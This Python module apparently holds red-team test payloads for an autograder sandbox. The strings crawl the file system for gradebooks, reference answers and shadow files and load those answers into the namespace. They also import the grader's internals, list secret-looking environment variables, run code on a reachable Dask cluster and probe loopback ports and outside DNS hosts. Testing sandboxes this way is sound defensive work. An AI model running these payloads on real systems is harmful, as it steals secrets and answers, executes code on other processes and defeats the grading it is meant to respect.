"""Attack classes "hidden files" and "network": reading what a sandbox must hide, and reaching
out of it."""

from __future__ import annotations

READ_HIDDEN = '''\
def _rt_attack():
    """Search the file system for answers, hidden tests, the gradebook and secrets; use answers."""
    import sys
    import time

    namespace = _rt_namespace()
    deadline = time.monotonic() + 20
    skip = {"/proc", "/sys", "/dev", "/usr", "/lib", "/lib64", "/bin", "/sbin", "/boot", "/snap",
            "/var/lib", "/var/cache", "/var/log", "/etc/ssl", sys.prefix, sys.base_prefix,
            _rt_os.path.realpath(sys.prefix), _rt_os.path.realpath(sys.base_prefix)}
    wanted = ("gradebook.db", "reference.py", "judges.py", "probes.py", "report.json", "grades.csv",
              "state.json", "shadow", "nbgrader_config.py")
    try:
        import grader

        repo = _RtPath(grader.__file__).resolve().parent.parent
        stack = ["/", str(repo), str(repo / "course"), str(repo / "solutions")]
    except Exception:
        stack = ["/"]
    seen = set()
    while stack and time.monotonic() < deadline:
        folder = stack.pop()
        if folder in seen:
            continue
        seen.add(folder)
        try:
            entries = list(_rt_os.scandir(folder))
        except OSError:
            continue
        for entry in entries:
            try:
                if entry.is_symlink():
                    continue
                if entry.is_dir():
                    dull = "site-packages" in entry.path or entry.name == ".git"
                    if entry.path not in skip and not dull:
                        stack.append(entry.path)
                    continue
                if not (entry.name in wanted or entry.name.endswith(".ipynb")):
                    continue
                with open(entry.path, "rb") as handle:
                    data = handle.read(5_000_000)
            except OSError:
                continue
            text = data.decode("utf-8", "replace")
            if entry.name.endswith(".ipynb"):
                if "initial_state=[a, c]" not in text or "Exercise not done" in text:
                    continue  # no answers in it (the release, or a learner's stubs)
                at = text.find("SECRET")
                at = max(at, 0)
                _rt_leak("a notebook with answers", entry.path + " " + text[at:at + 60])
                if "djmodel" not in namespace:
                    _rt_use(text, namespace)
            else:
                _rt_leak("read", entry.path + " " + text[:80])
    return namespace
'''

IMPORT_INTERNALS = '''\
def _rt_attack():
    """Import the grader's references, judges and probes; look for secrets in the environment."""
    import importlib
    import inspect

    for name in ("grader.reference", "grader.judges", "grader.probes"):
        try:
            module = importlib.import_module(name)
        except Exception:
            continue
        try:
            source = inspect.getsource(module)[:120]
        except Exception:
            source = ""
        _rt_leak("imported " + name, source)
    for key in _rt_os.environ:
        upper = key.upper()
        seed = "SEED" in upper and upper != "PYTHONHASHSEED"
        if seed or any(word in upper for word in ("SECRET", "TOKEN", "DASK", "_KEY", "SIGN")):
            _rt_leak("environment", key)
    return None
'''

NETWORK = '''\
def _rt_dask_payload():
    open("/tmp/__MARKER__-dask-reached", "w").close()
    return "reached"


def _rt_own_ports():
    """Ports that processes in sight (this sandbox's own) listen on."""
    inodes = set()
    for pid in _rt_os.listdir("/proc"):
        try:
            for fd in _rt_os.listdir("/proc/%s/fd" % pid):
                target = _rt_os.readlink("/proc/%s/fd/%s" % (pid, fd))
                if target.startswith("socket:["):
                    inodes.add(target[8:-1])
        except OSError:
            pass
    ports = {}
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            for line in open(table).read().splitlines()[1:]:
                parts = line.split()
                if len(parts) > 9 and parts[3] == "0A":
                    ports[int(parts[1].rsplit(":", 1)[1], 16)] = parts[9] in inodes
        except (OSError, ValueError):
            pass
    return {port for port, own in ports.items() if own}, set(ports)


def _rt_try_dask(port):
    try:
        from distributed import Client

        client = Client("tcp://127.0.0.1:%d" % port, timeout=3)
        _rt_leak("a Dask cluster answered", port)
        client.run(_rt_dask_payload)
        client.close()
    except Exception:
        pass


def _rt_attack():
    """Loopback ports (a Dask scheduler or worker, another kernel), DNS and outside hosts."""
    import socket
    import threading
    import time

    own, listening = _rt_own_ports()
    open_ports = []
    deadline = time.monotonic() + 15
    for port in [*sorted(listening), 8786, 8787, *range(1, 65536)]:
        if time.monotonic() > deadline or len(open_ports) > 40:
            break
        if port in own or port in open_ports:
            continue
        probe = socket.socket()
        probe.settimeout(0.2)
        try:
            # (a connection to one's own ephemeral port is the socket talking to itself)
            if probe.connect_ex(("127.0.0.1", port)) == 0 and probe.getsockname()[1] != port:
                open_ports.append(port)
        except OSError:
            pass
        finally:
            probe.close()
    if open_ports:
        _rt_leak("loopback ports of other processes answer", open_ports[:20])
    for port in open_ports[:5]:
        worker = threading.Thread(target=_rt_try_dask, args=(port,), daemon=True)
        worker.start()
        worker.join(8)

    def resolve():
        try:
            socket.getaddrinfo("example.com", 80)
            _rt_leak("DNS answered", "example.com")
        except Exception:
            pass

    worker = threading.Thread(target=resolve, daemon=True)
    worker.start()
    worker.join(6)
    for host, port in (("1.1.1.1", 53), ("8.8.8.8", 53), ("93.184.215.14", 80)):
        probe = socket.socket()
        probe.settimeout(2)
        try:
            if probe.connect_ex((host, port)) == 0:
                _rt_leak("an outside host answered", host)
        except OSError:
            pass
        finally:
            probe.close()
    query = bytes.fromhex("abcd01000001000000000000076578616d706c6503636f6d0000010001")
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.settimeout(2)
    try:
        udp.sendto(query, ("8.8.8.8", 53))
        udp.recvfrom(512)
        _rt_leak("a DNS server answered over UDP", "8.8.8.8")
    except OSError:
        pass
    finally:
        udp.close()
    return None
'''
